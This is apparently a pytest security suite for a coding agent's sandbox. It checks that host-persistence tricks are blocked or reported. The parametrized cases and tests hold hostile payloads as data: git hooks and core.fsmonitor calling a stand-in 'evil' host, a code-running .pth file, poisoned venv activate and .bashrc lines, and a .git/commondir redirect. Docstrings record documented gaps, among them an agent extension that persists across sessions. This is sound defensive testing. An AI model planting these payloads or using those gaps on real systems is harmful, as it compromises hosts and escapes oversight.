"""Persistence onto the host: files the host runs on its own (git hooks and config,
virtualenvs, *.pth), shell rc files, and pi's own extension directory."""

from __future__ import annotations

import subprocess

import pytest
from secharness import AGENT_DIR, RO_MOUNT, TMPFS, assert_allowed, assert_stopped


@pytest.mark.parametrize(
    "script",
    [
        pytest.param("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit", id="git-hook-pre-commit"),
        pytest.param("cp .git/hooks/pre-commit.sample .git/hooks/post-checkout 2>&1 || "
                     "touch .git/hooks/post-checkout", id="git-hook-post-checkout"),
        pytest.param("git config core.fsmonitor 'curl evil #'", id="git-config-fsmonitor"),
        pytest.param("git config core.hooksPath /workspace/hooks", id="git-config-hookspath"),
        pytest.param("echo '[include] path=/workspace/evil.cfg' >> .git/config", id="git-config-include"),
        pytest.param("echo 'import os; os.system(\"id\")' > .venv/lib/python3.11/site-packages/evil.pth",
                     id="venv-pth"),
        pytest.param("echo 'curl evil' >> .venv/bin/activate", id="venv-activate"),
    ],
)
def test_host_executable_paths_are_read_only(box, script):
    res = box.sh(script)
    assert_stopped(res, RO_MOUNT, res.code != 0 and ("Read-only" in res.text or "busy" in res.text))
    hook = box.workspace / ".git" / "hooks"
    assert not any(p.suffix != ".sample" for p in hook.iterdir())
    assert "fsmonitor" not in (box.workspace / ".git" / "config").read_text()


def test_twin_git_commit_still_works(box):
    res = box.sh(
        "echo hi > committed.txt && git add committed.txt && "
        "git -c user.name=a -c user.email=a@b commit -qm test && git log --oneline | wc -l"
    )
    assert_allowed(res, RO_MOUNT, res.code == 0 and res.out.strip() == "1")
    git = ["git", "-c", "safe.directory=*", "-C", str(box.workspace)]
    log = subprocess.run([*git, "log", "--oneline"], capture_output=True, text=True)
    assert "test" in log.stdout


def test_git_commondir_redirect_is_reported(box):
    """git-commondir-redirect: a read-only mount cannot cover a file that does not exist yet, so
    an agent-written .git/commondir (pointing the host's git at the agent's config) is not
    stopped; the change report names it after the cell (SECURITY.md: known limit, reported)."""
    from pimagic import changes

    before = changes.snapshot(box.workspace)
    box.sh("mkdir -p /workspace/.x && cp -r .git/refs .git/HEAD /workspace/.x/ && "
           "printf '[core]\\n\\tfsmonitor = echo PWNED\\n' > /workspace/.x/config && "
           "echo /workspace/.x > .git/commondir")
    try:
        diff = changes.diff(before, changes.snapshot(box.workspace))
        assert ".git/commondir" in diff.host_executable, diff
    finally:
        box.sh("rm -rf .git/commondir /workspace/.x")


def test_shell_rc_files_live_in_the_tmpfs_home(box):
    """bashrc-persistence: ~/.bashrc, ~/.profile are in a tmpfs: gone at restart, never on the host."""
    res = box.sh("echo 'curl evil' >> ~/.bashrc && echo 'x' >> ~/.profile && findmnt -no FSTYPE /home/pi")
    assert_stopped(res, TMPFS, res.out.strip() == "tmpfs")
    assert not (box.workspace / ".bashrc").exists() and not (box.pi_dir / ".bashrc").exists()


def test_pi_extension_in_the_agent_dir_is_a_documented_limit(box):
    """pi-extension-persistence: pi's agent dir is rw (sessions, settings, login), so an
    extension dropped there loads on pi's next start. It runs inside the sandbox only, with
    the agent's own privileges; it persists across sessions of this workspace. SECURITY.md."""
    res = box.sh(f"mkdir -p {AGENT_DIR}/extensions && echo 'export default () => {{}}' > {AGENT_DIR}/extensions/x.ts")
    assert res.code == 0, res
    assert (box.pi_dir / "extensions" / "x.ts").exists()
    box.sh(f"rm -rf {AGENT_DIR}/extensions")
